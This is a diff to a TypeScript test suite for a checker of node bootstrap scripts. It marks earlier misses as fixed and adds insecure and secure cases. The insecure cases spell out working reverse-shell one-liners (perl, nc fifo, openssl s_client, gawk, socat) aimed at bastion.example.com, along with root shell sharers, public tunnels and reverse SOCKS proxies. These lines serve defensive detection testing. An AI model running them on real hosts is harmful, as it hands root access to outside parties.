@@ -39,7 +39,7 @@ const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata/i;
 
 const insecure: NodeCase[] = [
     // --- Reverse shells in other programs ---
-    // MISS: perlfunc(1) open "<&"/">&" dups STDIN/STDOUT/STDERR onto an IO::Socket::INET connection and exec replaces perl with
+    // Was a MISS (fixed in round 60; already refused by round 59's fix on main): perlfunc(1) open "<&"/">&" dups STDIN/STDOUT/STDERR onto an IO::Socket::INET connection and exec replaces perl with
     // /bin/bash -i: root's shell handed to bastion (a reverse shell); perl -e is not read for sockets (the fix in progress covers
     // ncat/socat/python/bash /dev/tcp only).
     devNodeCase(
@@ -48,7 +48,6 @@ const insecure: NodeCase[] = [
             `nohup perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("bastion.example.com:4444");open(STDIN,"<&",$s);open(STDOUT,">&",$s);open(STDERR,">&",$s);exec("/bin/bash","-i")' &`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | nc bastion 4444 > /tmp/f (a fifo reverse shell)",
@@ -58,7 +57,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: openssl-s_client(1) "-connect host:port" with -quiet relays stdin/stdout over TLS: bash's stdio pipes through it to
+    // Was a MISS (fixed in round 60): openssl-s_client(1) "-connect host:port" with -quiet relays stdin/stdout over TLS: bash's stdio pipes through it to
     // bastion (a reverse shell); the fifo is not read as a relay (the nc fifo above is refused only because bash reads a fifo).
     devNodeCase(
         "bash -i < /tmp/s | openssl s_client -quiet -connect bastion:4444 > /tmp/s (a TLS reverse shell)",
@@ -67,9 +66,8 @@ const insecure: NodeCase[] = [
             "nohup sh -c '/bin/bash -i < /tmp/s 2>&1 | openssl s_client -quiet -connect bastion.example.com:4444 > /tmp/s' &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: GNU awk manual "Using gawk for Network Programming" (special file /inet/tcp/lport/rhost/rport, |& coprocess): each line
+    // Was a MISS (fixed in round 60): GNU awk manual "Using gawk for Network Programming" (special file /inet/tcp/lport/rhost/rport, |& coprocess): each line
     // from bastion runs as a root command and its output goes back; gawk's /inet special files are not read.
     devNodeCase(
         "gawk /inet/tcp/0/bastion/4444 reverse shell",
@@ -77,32 +75,28 @@ const insecure: NodeCase[] = [
             `nohup gawk 'BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}' &`,
         ]),
         RELAY,
-        true,
     ),
     // --- Shell sharers beyond tmate/upterm ---
-    // MISS: sshx (ekzhang/sshx README: "a secure web-based, collaborative terminal"; one command prints a link through sshx.net):
+    // Was a MISS (fixed in round 60; already refused by round 59's fix on main): sshx (ekzhang/sshx README: "a secure web-based, collaborative terminal"; one command prints a link through sshx.net):
     // root's terminal for whoever has the link; no reader of shell sharers beyond tmate/upterm (being fixed).
     devNodeCase(
         "sshx --quiet (root's terminal shared through sshx.io)",
         devNodeScript("dev-sshx-nodes", ["nohup sshx --quiet > /var/log/sshx.log 2>&1 &"]),
         RELAY,
-        true,
     ),
-    // MISS: tty-share README ("--public" makes the session reachable through the tty-share.com proxy by URL; --command the shell):
+    // Was a MISS (fixed in round 60; already refused by round 59's fix on main): tty-share README ("--public" makes the session reachable through the tty-share.com proxy by URL; --command the shell):
     // root's shell served to whoever holds the URL; not read.
     devNodeCase(
         "tty-share --public --command /bin/bash (root's shell shared through on.tty-share.com)",
         devNodeScript("dev-tty-share-nodes", ["nohup tty-share --public --headless --command /bin/bash &"]),
         RELAY,
-        true,
     ),
-    // MISS: shellinaboxd(1) -p port (default 4200, every address), -s /:root:root:/:/bin/bash runs bash as root without login, -t
+    // Was a MISS (fixed in round 60): shellinaboxd(1) -p port (default 4200, every address), -s /:root:root:/:/bin/bash runs bash as root without login, -t
     // plain HTTP: a root web shell to every pod and VPC peer; the unread-program rule needs an address word and -p is a bare port.
     devNodeCase(
         "shellinaboxd -t -p 4200 -s /:root:root:/:/bin/bash (a root web shell on every address)",
         devNodeScript("dev-shellinabox-nodes", ["nohup shellinaboxd -t -p 4200 -s '/:root:root:/:/bin/bash' &"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "wetty --host 0.0.0.0 --port 3000 --command /bin/bash (a root web terminal)",
@@ -110,7 +104,7 @@ const insecure: NodeCase[] = [
         RELAY,
     ),
     // --- Tunnel clients beyond TUNNEL_SERVICES ---
-    // MISS: inlets docs ("inlets-pro tcp client --url wss://... --upstream 127.0.0.1 --ports 8000": the server's public port 8000
+    // Was a MISS (fixed in round 60): inlets docs ("inlets-pro tcp client --url wss://... --upstream 127.0.0.1 --ports 8000": the server's public port 8000
     // is relayed to the client's upstream): miniserve / published on the tunnel server; --upstream/--ports are not read as ends.
     devNodeCase(
         "inlets-pro tcp client --url wss://tunnel:8123 --upstream 127.0.0.1 --ports 8000 before miniserve /",
@@ -119,18 +113,16 @@ const insecure: NodeCase[] = [
             "nohup inlets-pro tcp client --url wss://tunnel.example.com:8123 --upstream 127.0.0.1 --ports 8000 --token-file /etc/inlets/token &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: LocalXpose docs ("loclx tunnel http --to 127.0.0.1:8000" gives a public https://*.loclx.io URL): miniserve / made
+    // Was a MISS (fixed in round 60): LocalXpose docs ("loclx tunnel http --to 127.0.0.1:8000" gives a public https://*.loclx.io URL): miniserve / made
     // public; loclx names no far host and is not in TUNNEL_SERVICES.
     devNodeCase(
         "loclx tunnel http --to 127.0.0.1:8000 (LocalXpose public tunnel) before miniserve /",
         devNodeScript("dev-loclx-nodes", [LO_ROOT, "nohup loclx tunnel http --to 127.0.0.1:8000 &"]),
         RELAY,
-        true,
     ),
     // --- ssh variants ---
-    // MISS: dbclient(1) (Dropbear) "-R [listenaddress:]listenport:host:port  Remote port forwarding", as ssh -R: bastion's
+    // Was a MISS (fixed in round 60): dbclient(1) (Dropbear) "-R [listenaddress:]listenport:host:port  Remote port forwarding", as ssh -R: bastion's
     // port 8080 reaches miniserve /; dbclient is read for instance metadata but not for -R of a loopback end.
     devNodeCase(
         "dbclient -N -R 8080:127.0.0.1:8000 ops@bastion (Dropbear's ssh client) before miniserve /",
@@ -139,14 +131,13 @@ const insecure: NodeCase[] = [
             "nohup dbclient -N -R 8080:127.0.0.1:8000 ops@bastion.example.com &",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "ssh -fNTR 8080:127.0.0.1:8000 ops@bastion (R bundled with other flags) before miniserve /",
         devNodeScript("dev-ssh-bundled-R-nodes", [LO_ROOT, "ssh -fNTR 8080:127.0.0.1:8000 ops@bastion.example.com"]),
         RELAY,
     ),
-    // MISS: sshpass(1) "sshpass [-f filename|-d num|-p password|-e] [options] command arguments" runs the ssh command: the same
+    // Was a MISS (fixed in round 60): sshpass(1) "sshpass [-f filename|-d num|-p password|-e] [options] command arguments" runs the ssh command: the same
     // ssh -R is refused bare but sshpass is not unwrapped (timeout/setsid/screen/tmux/runuser/daemonize/systemd-run are).
     devNodeCase(
         "sshpass -f /root/.pw ssh -N -R 8080:127.0.0.1:8000 ops@bastion before miniserve /",
@@ -155,16 +146,14 @@ const insecure: NodeCase[] = [
             "nohup sshpass -f /root/.pw ssh -N -R 8080:127.0.0.1:8000 ops@bastion.example.com &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: ssh(1) -R "[bind_address:]port": "if no explicit destination was specified, ssh will act as a SOCKS 4/5 proxy and
+    // Was a MISS (fixed in round 60): ssh(1) -R "[bind_address:]port": "if no explicit destination was specified, ssh will act as a SOCKS 4/5 proxy and
     // forward connections to the destinations requested by the remote SOCKS client": bastion reaches the node's loopback
     // servers and instance metadata (the node role) through it; only -R with a destination is read.
     devNodeCase(
         "ssh -N -R 1080 ops@bastion (a reverse dynamic SOCKS proxy: bastion reaches the node's loopback and metadata)",
         devNodeScript("dev-ssh-reverse-socks-nodes", ["nohup ssh -N -R 1080 ops@bastion.example.com &"]),
         RELAY,
-        true,
     ),
     // --- VPN clients and remote-access agents ---
     devNodeCase(
@@ -178,7 +167,7 @@ const insecure: NodeCase[] = [
         ]),
         REMOTE,
     ),
-    // MISS: NetBird CLI docs (netbird up "--allow-server-ssh  Allow SSH server on peer"; who logs in is the management
+    // Was a MISS (fixed in round 60): NetBird CLI docs (netbird up "--allow-server-ssh  Allow SSH server on peer"; who logs in is the management
     // server's access policy): the peer's embedded SSH server gives NetBird users a root shell, as Tailscale SSH (refused) does.
     devNodeCase(
         "netbird up --allow-server-ssh (NetBird SSH server: the peer's policy decides who logs in as root)",
@@ -187,9 +176,8 @@ const insecure: NodeCase[] = [
             "netbird up --setup-key EXAMPLE-SETUP-KEY --allow-server-ssh",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Teleport docs ("teleport start --roles=node" joins the SSH Service to the cluster; the auth server's roles decide
+    // Was a MISS (fixed in round 60): Teleport docs ("teleport start --roles=node" joins the SSH Service to the cluster; the auth server's roles decide
     // which users log in as which logins, root included): remote management of the node like a Salt/Puppet agent (refused).
     devNodeCase(
         "teleport start --roles=node --auth-server=teleport.example.com:443 (Teleport SSH node)",
@@ -197,17 +185,15 @@ const insecure: NodeCase[] = [
             "nohup teleport start --roles=node --auth-server=teleport.example.com:443 --token=/etc/teleport/join-token &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: CFEngine docs ("cf-agent --bootstrap <hub>" makes the host pull and run the hub's policy as root every run): the
+    // Was a MISS (fixed in round 60): CFEngine docs ("cf-agent --bootstrap <hub>" makes the host pull and run the hub's policy as root every run): the
     // hub's policy writers get root on the node, as ansible-pull/puppet agent/salt-minion (refused).
     devNodeCase(
         "cf-agent --bootstrap policyhub.example.com (CFEngine hub runs promises as root)",
         devNodeScript("dev-cfengine-nodes", ["/var/cfengine/bin/cf-agent --bootstrap policyhub.example.com"]),
         REMOTE,
-        true,
     ),
-    // MISS: wstunnel README (erebe/wstunnel: "wstunnel client -R tcp://[::]:8080:localhost:8000 wss://server" reverse tunnels: the
+    // Was a MISS (fixed in round 60): wstunnel README (erebe/wstunnel: "wstunnel client -R tcp://[::]:8080:localhost:8000 wss://server" reverse tunnels: the
     // server listens and relays to the client's end): miniserve / on tunnel.example.com; the `tcp://PORT:HOST:PORT` word is not
     // parsed as a local end, so the unread-relay rule (websocat, rathole) finds none.
     devNodeCase(
@@ -217,9 +203,8 @@ const insecure: NodeCase[] = [
             "nohup wstunnel client -R tcp://8080:127.0.0.1:8000 wss://tunnel.example.com:443 &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: Expose docs (beyondcode/expose: "expose share http://localhost:8000 --subdomain=..." publishes the local site on the
+    // Was a MISS (fixed in round 60): Expose docs (beyondcode/expose: "expose share http://localhost:8000 --subdomain=..." publishes the local site on the
     // Expose server's public URL): miniserve / made public; expose names no far host and is not in TUNNEL_SERVICES.
     devNodeCase(
         "expose share http://localhost:8000 --subdomain=nodefiles before miniserve /",
@@ -228,26 +213,23 @@ const insecure: NodeCase[] = [
             "nohup expose share http://localhost:8000 --subdomain=nodefiles &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: Microsoft Learn, dev tunnels CLI ("devtunnel host -p 8000 --allow-anonymous": the port is reachable at the tunnel's
+    // Was a MISS (fixed in round 60): Microsoft Learn, dev tunnels CLI ("devtunnel host -p 8000 --allow-anonymous": the port is reachable at the tunnel's
     // public URL, anonymous access allowed): miniserve / to anyone; devtunnel is not read.
     devNodeCase(
         "devtunnel host -p 8000 --allow-anonymous (Microsoft dev tunnel) before miniserve /",
         devNodeScript("dev-devtunnel-nodes", [LO_ROOT, "nohup devtunnel host -p 8000 --allow-anonymous &"]),
         RELAY,
-        true,
     ),
-    // MISS: VS Code docs, Remote Tunnels ("code tunnel" connects the machine to the dev tunnels relay; from vscode.dev the signed-in
+    // Was a MISS (fixed in round 60): VS Code docs, Remote Tunnels ("code tunnel" connects the machine to the dev tunnels relay; from vscode.dev the signed-in
     // GitHub/Microsoft account opens terminals and edits files there): root's shell for that account; no reader.
     devNodeCase(
         "code tunnel --accept-server-license-terms --name eks-node (VS Code Remote Tunnels as root)",
         devNodeScript("dev-code-tunnel-nodes", ["nohup code tunnel --accept-server-license-terms --name eks-node &"]),
         REMOTE,
-        true,
     ),
     // --- Schedulers ---
-    // MISS: at(1) ("at ... read commands from standard input ... to be executed at a later time" by /bin/sh): the ssh -R refused
+    // Was a MISS (fixed in round 60): at(1) ("at ... read commands from standard input ... to be executed at a later time" by /bin/sh): the ssh -R refused
     // when run directly (and in /etc/cron.d) runs two minutes later through atd; at jobs are not read.
     devNodeCase(
         "echo 'ssh -N -R 8080:127.0.0.1:8000 ops@bastion' | at now + 2 minutes before miniserve /",
@@ -256,7 +238,6 @@ const insecure: NodeCase[] = [
             "echo 'ssh -N -R 8080:127.0.0.1:8000 ops@bastion.example.com' | at now + 2 minutes",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "/etc/cron.d @reboot root ssh -N -R 8080:127.0.0.1:8000 ops@bastion before miniserve /",
@@ -309,6 +290,78 @@ const insecure: NodeCase[] = [
             '      tcp_address = "0.0.0.0:10010"',
         ]),
         SOCKET,
+    ),
+    // --- Round 60 fix: neighbours of the misses above ---
+    devNodeCase(
+        "bash -i < /tmp/p | socat - OPENSSL:bastion:4444 > /tmp/p (a fifo reverse shell through socat's TLS client)",
+        devNodeScript("dev-socat-fifo-revshell-nodes", [
+            "rm -f /tmp/p; mkfifo /tmp/p",
+            "nohup sh -c '/bin/bash -i < /tmp/p 2>&1 | socat - OPENSSL:bastion.example.com:4444,verify=0 > /tmp/p' &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "awk -f a script user data wrote (gawk /inet/tcp and system())",
+        devNodeScript("dev-gawk-script-revshell-nodes", [
+            ...file("/usr/local/lib/rs.awk", [
+                'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) system(c) }',
+            ]),
+            "nohup awk -f /usr/local/lib/rs.awk &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "inlets-pro http client --upstream http://127.0.0.1:8000 before miniserve /",
+        devNodeScript("dev-inlets-http-nodes", [
+            LO_ROOT,
+            "nohup inlets-pro http client --url wss://tunnel.example.com:8123 --upstream http://127.0.0.1:8000 &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "an unread tunnel client whose `share` subcommand names a port (fail closed) before miniserve /",
+        devNodeScript("dev-unknown-share-nodes", [LO_ROOT, "nohup tunnel-client share --port 8000 &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ssh -N -o RemoteForward=1080 ops@bastion (a reverse SOCKS proxy by setting)",
+        devNodeScript("dev-ssh-remoteforward-socks-nodes", [
+            "nohup ssh -N -o RemoteForward=1080 ops@bastion.example.com &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "sshpass -e ssh -N -R 8080:localhost:8000 ops@bastion before miniserve /",
+        devNodeScript("dev-sshpass-e-reverse-nodes", [
+            LO_ROOT,
+            "SSHPASS=x nohup sshpass -e ssh -N -R 8080:localhost:8000 ops@bastion.example.com &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "at now <<EOF ssh -N -R 8080:127.0.0.1:8000 ops@bastion EOF before miniserve / (an at job from a here-document)",
+        devNodeScript("dev-at-heredoc-reverse-nodes", [
+            LO_ROOT,
+            "at now + 1 minute <<'JOB'",
+            "ssh -N -R 8080:127.0.0.1:8000 ops@bastion.example.com",
+            "JOB",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "teleport start --config /etc/teleport.yaml (roles from a configuration: the SSH Service by default)",
+        devNodeScript("dev-teleport-config-nodes", ["nohup teleport start --config /etc/teleport.yaml &"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "cf-agent -B 10.0.0.5 (CFEngine bootstrap, short option)",
+        devNodeScript("dev-cfengine-short-nodes", ["/var/cfengine/bin/cf-agent -B 10.0.0.5"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "code tunnel service install (VS Code Remote Tunnels as a service)",
+        devNodeScript("dev-code-tunnel-service-nodes", ["code tunnel service install --accept-server-license-terms"]),
+        REMOTE,
     ),
 ];
 
@@ -367,6 +420,47 @@ const secure: NodeCase[] = [
             '      [plugins."io.containerd.grpc.v1.cri".registry]',
             '      config_path = "/etc/containerd/certs.d"',
         ]),
+    ),
+    // --- Round 60 fix: secure neighbours of the misses ---
+    devNodeCase(
+        "shellinaboxd with no service (/bin/login asks for a password, as busybox telnetd's default: round 44)",
+        devNodeScript("dev-shellinabox-login-nodes", ["nohup shellinaboxd -t &"]),
+    ),
+    devNodeCase(
+        "netbird up --setup-key (a NetBird peer without its SSH server)",
+        devNodeScript("dev-netbird-nossh-nodes", [
+            "systemctl enable --now netbird",
+            "netbird up --setup-key EXAMPLE-SETUP-KEY",
+        ]),
+    ),
+    devNodeCase(
+        "echo 'systemctl restart kubelet' | at now + 5 minutes (an at job the pack reads)",
+        devNodeScript("dev-at-restart-nodes", ["echo 'systemctl restart kubelet' | at now + 5 minutes"]),
+    ),
+    devNodeCase(
+        "openssl s_client -connect bastion:443 < /dev/null | openssl x509 -noout -enddate (a certificate check)",
+        devNodeScript("dev-openssl-certcheck-nodes", [
+            "openssl s_client -connect bastion.example.com:443 -servername bastion.example.com < /dev/null 2>/dev/null | openssl x509 -noout -enddate",
+        ]),
+    ),
+    devNodeCase(
+        "awk reading /etc/os-release (no /inet special file)",
+        devNodeScript("dev-awk-local-nodes", [`awk -F= '$1=="VERSION_ID"{print $2}' /etc/os-release > /tmp/version`]),
+    ),
+    devNodeCase(
+        "ssh -N -D 127.0.0.1:1080 ops@bastion (a SOCKS proxy on the node's loopback to bastion's side)",
+        devNodeScript("dev-ssh-local-socks-nodes", ["nohup ssh -N -D 127.0.0.1:1080 ops@bastion.example.com &"]),
+    ),
+    devNodeCase(
+        "dbclient -N -L 5432:127.0.0.1:5432 ops@bastion (a local forward on loopback to bastion's database) beside miniserve /",
+        devNodeScript("dev-dbclient-local-nodes", [
+            LO_ROOT,
+            "nohup dbclient -N -L 5432:127.0.0.1:5432 ops@bastion.example.com &",
+        ]),
+    ),
+    devNodeCase(
+        "cf-agent -KI (CFEngine running its local policy, no hub)",
+        devNodeScript("dev-cfengine-local-nodes", ["/var/cfengine/bin/cf-agent -KI"]),
     ),
 ];
 
